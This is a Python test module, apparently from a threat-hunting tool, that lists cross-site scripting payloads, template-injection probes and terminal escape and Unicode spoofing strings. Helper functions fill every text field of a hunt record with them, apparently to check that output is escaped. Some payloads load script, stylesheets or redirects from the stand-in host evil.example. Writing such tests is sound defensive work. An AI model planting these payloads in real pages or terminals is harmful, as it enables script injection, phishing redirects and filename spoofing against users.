"""What attackers write into command lines, names and paths, and hunts that carry it in every text field."""

from dataclasses import fields, is_dataclass, replace
from datetime import datetime
from enum import Enum
from typing import Any

from longtail.prevalence.findings import Hunt

SCRIPTS = (
    "<script>window.pwned=1</script>",
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></ScRiPt>",
    "<img src=x onerror=window.pwned=1>",
    '"><img src=x onerror="window.pwned=1">',
    "'><img src=x onerror='window.pwned=1'>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "</svg><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>",
    "</textarea><script>window.pwned=1</script>",
    "</code></details><script>window.pwned=1</script>",
    "<iframe src=javascript:window.pwned=1></iframe>",
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "<object data=javascript:window.pwned=1></object>",
    "<embed src=javascript:window.pwned=1>",
    "<body onload=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    "<audio src=x onerror=window.pwned=1></audio>",
    "<input autofocus onfocus=window.pwned=1>",
    "<select autofocus onfocus=window.pwned=1></select>",
    "<marquee onstart=window.pwned=1>",
    "<math><mtext></mtext><script>window.pwned=1</script></math>",
    "<a href=javascript:window.pwned=1>x</a>",
    "javascript:window.pwned=1",
    "javascript&colon;window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    '" onmouseover="window.pwned=1" x="',
    "' onmouseover='window.pwned=1' x='",
    "x onmouseover=window.pwned=1 y",
    '" style="background:url(https://evil.example/)" x="',
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button>x</button></form>",
    "{{ 7*7 }} {% for x in y %} {# #}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "]]><script>window.pwned=1</script><![CDATA[",
    "<!--><script>window.pwned=1</script>-->",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "＜script＞window.pwned=1＜/script＞",
    "<scr\x00ipt>window.pwned=1</scr\x00ipt>",
    "\u202e<script>window.pwned=1</script>",
    "#alert-1",
    "https://evil.example/T1105",
    "A" * 12_000,
)

TERMINAL = (
    "\x1b[2J\x1b[31mred\x1b[0m",
    "\x9b31mred",
    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "\x1b]52;c;ZWNobyBwd25lZA==\x07",
    "\x1b]0;title\x07",
    "safe.exe\revil.exe",
    "bell\x07\x08\x7f",
    "gpj.\u202eexe",
    "\u2066\u2067isolated\u2069",
    "ad\u200bmin\u200d\ufeff",
    "tag\U000e0041\U000e007f",
    "[/x] [bold]bold[/bold] [link=https://evil.example]x[/link] :skull:",
    "line\nbreak\x0b\x0c\x85\u2028",
    "\ud800 lone \udfff",
    "\x90q\x9c\x84\x8d",
)


def with_text(value: Any, text: str) -> Any:
    """``value`` with every string in it replaced by ``text``; roles, severities, times and numbers stay."""
    if isinstance(value, str) and not isinstance(value, Enum):
        return text
    if isinstance(value, tuple):
        return tuple(with_text(each, text) for each in value)
    if isinstance(value, dict):
        return {with_text(key, text): number for key, number in value.items()}
    if is_dataclass(value) and not isinstance(value, datetime | type):
        changed = {each.name: with_text(getattr(value, each.name), text) for each in fields(value)}
        return replace(value, **{name: new for name, new in changed.items() if name != "role"})
    return value


def hostile_hunt(hunt: Hunt, texts: tuple[str, ...]) -> Hunt:
    """One alert, population and reading of ``hunt`` for each of ``texts``, with that text in all their fields."""
    return replace(
        hunt,
        alerts=tuple(with_text(hunt.alerts[at % len(hunt.alerts)], text) for at, text in enumerate(texts)),
        populations=tuple(
            with_text(hunt.populations[at % len(hunt.populations)], text) for at, text in enumerate(texts)
        ),
        readings=tuple(with_text(hunt.readings[-1], text) for text in texts),
        notes=texts,
    )
